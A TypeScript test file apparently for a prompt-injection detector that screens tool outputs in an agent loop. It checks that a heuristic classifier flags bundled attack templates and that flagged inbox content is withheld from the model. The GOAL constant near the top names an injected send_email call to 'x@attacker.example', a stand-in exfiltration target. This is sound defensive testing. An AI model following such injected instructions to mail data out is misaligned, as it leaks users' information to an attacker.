import { describe, expect, it } from 'vitest';
import { INJECTION_TEMPLATES, injectionText } from '../../faults/data/injected-instructions.js';
import { ScriptedModel } from '../../model/scripted-model.js';
import { BudgetedAgentLoop } from '../budgeted-agent-loop.js';
import type { AgentEvent } from '../events.js';
import { heuristicInjectionClassifier, injectionDetector, WITHHELD_OUTPUT } from './injection-detector.js';
import { answeringHost } from './trust-guards.test-helpers.js';

const GOAL = { tool: 'send_email', input: { to: 'x@attacker.example', subject: 'Hi', body: 'list' } };

describe('heuristicInjectionClassifier', () => {
  it('flags every bundled attack template, and ordinary records and emails not', () => {
    for (const template of Object.keys(INJECTION_TEMPLATES) as Array<keyof typeof INJECTION_TEMPLATES>)
      expect(heuristicInjectionClassifier(JSON.stringify({ body: `Hello.\n\n${injectionText(template, GOAL)}` }))).toBe(
        true,
      );
    for (const benign of [
      '{"id":"u_2001","name":"Grace Hopper","email":"grace.hopper@example.com"}',
      '{"from":"ann@example.com","body":"Hi, my order o_1042 has not arrived. Could you please check on it? Thanks, Ann"}',
      '{"title":"Retry policies","text":"Clients should back off exponentially and honour retry-after."}',
    ])
      expect(heuristicInjectionClassifier(benign)).toBe(false);
  });
});

describe('injectionDetector', () => {
  async function run(content: string, classify?: (text: string) => boolean | Promise<boolean>) {
    const events: AgentEvent[] = [];
    const model = new ScriptedModel([{ calls: [{ name: 'read_inbox', input: {} }] }, { text: 'done' }]);
    const guard = classify === undefined ? injectionDetector() : injectionDetector({ classify });
    await new BudgetedAgentLoop({
      model,
      tools: answeringHost({ read_inbox: content }),
      guards: [guard],
      onEvent: (event) => events.push(event),
    }).run('Read the inbox.');
    const results = model.requests[1]!.messages.at(-1)!.content;
    const seen = Array.isArray(results) && results[0]?.type === 'tool_result' ? results[0].content : null;
    return { seen, withheld: events.filter((event) => event.type === 'agent.injection.withheld').length };
  }

  it('withholds an output its classifier flags, and says so with an event', async () => {
    const attacked = JSON.stringify({ body: injectionText('authority', GOAL) });
    expect(await run(attacked)).toEqual({ seen: WITHHELD_OUTPUT, withheld: 1 });
    expect(await run('{"body":"Where is my order?"}')).toEqual({ seen: '{"body":"Where is my order?"}', withheld: 0 });
  });

  it("takes a user's own classifier, asynchronous too", async () => {
    expect(await run('{"body":"fine"}', async (text) => text.includes('fine'))).toEqual({
      seen: WITHHELD_OUTPUT,
      withheld: 1,
    });
  });
});
